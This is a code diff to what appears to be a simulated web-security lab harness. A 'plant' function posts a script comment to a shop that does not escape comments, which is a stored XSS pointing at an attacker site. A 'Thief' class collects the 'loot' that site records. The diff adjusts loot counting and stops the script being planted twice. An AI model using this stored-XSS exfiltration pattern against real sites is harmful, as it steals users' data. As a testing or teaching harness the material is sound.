@@ -60,11 +60,13 @@ class Thief:
 
     def forget(self) -> None:
         """Start again without what was kept."""
-        self._seen = len(self._web.sites.recorded()["loot"])
+        self._seen = self._web.sites.recorded()["taken"]
 
     def so_far(self) -> str:
         """Return all that has come."""
-        return "\n".join(self._web.sites.recorded()["loot"][self._seen :])
+        recorded = self._web.sites.recorded()
+        new = recorded["taken"] - self._seen
+        return "\n".join(recorded["loot"][-new:]) if new else ""
 
     def loot(self, word: str = "") -> str:
         """Wait until something with this word has come, and return all; after a while, what there is."""
@@ -77,9 +79,10 @@ class Thief:
 
 
 def plant(web: Web) -> Lab:
-    """Leave the comment at the shop that does not escape it. Returns that shop."""
-    lab = web.weak(WEAK)
-    comment(lab, STEAL.replace("EVIL", web.sites.origin(EVIL)))
+    """Leave the comment at the shop that does not escape it, unless it is there. Returns that shop."""
+    lab, script = web.weak(WEAK), STEAL.replace("EVIL", web.sites.origin(EVIL))
+    if script not in lab.client("mallory").get("/site/").text:
+        comment(lab, script)
     return lab
 
 
